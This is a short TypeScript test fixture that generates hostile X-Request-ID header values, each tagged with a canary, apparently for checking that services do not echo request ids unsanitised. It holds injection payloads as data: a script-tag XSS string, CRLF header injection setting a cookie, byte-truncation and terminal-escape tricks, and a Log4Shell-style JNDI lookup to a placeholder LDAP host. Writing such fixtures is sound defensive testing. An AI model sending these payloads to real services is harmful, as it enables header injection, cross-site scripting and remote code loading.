/** An id that no service should write into an answer, a log or a terminal as it came. */
export interface HostileId {
  readonly what: string;
  /** Header lines as bytes, in latin1, without the last line break. */
  readonly lines: string;
}

const line = (value: string): string => `X-Request-ID: ${value}`;
const latin1OfUtf8 = (text: string): string => Buffer.from(text, "utf8").toString("latin1");

/** The canary stands in each, so that any trace of it in an answer tells. */
export function hostileIds(canary: string): readonly HostileId[] {
  return [
    { what: "An id with markup", lines: line(`${canary}<script>alert(1)</script>`) },
    { what: "An id with escaped line breaks", lines: line(`${canary}%0d%0aSet-Cookie:%20a=b`) },
    // U+010D and U+010A: software that keeps the low byte of each makes CR and LF of them.
    {
      what: "An id with letters that become line breaks",
      lines: line(latin1OfUtf8(`${canary}\u010d\u010aX: 1`)),
    },
    { what: "An id with a line separator", lines: line(latin1OfUtf8(`${canary}\u2028x`)) },
    { what: "An id with an eight-bit terminal escape", lines: line(`${canary}\x9b31mred`) },
    { what: "An id that goes on in the next line", lines: `${line(canary)}\r\n second` },
    { what: "An id of 10 kB", lines: line(canary + "a".repeat(10_000)) },
    { what: "An id with a lookup", lines: line(`\${jndi:ldap://${canary}.example/a}`) },
    { what: "Two ids", lines: `${line(canary)}\r\n${line(`${canary}-2`)}` },
  ];
}
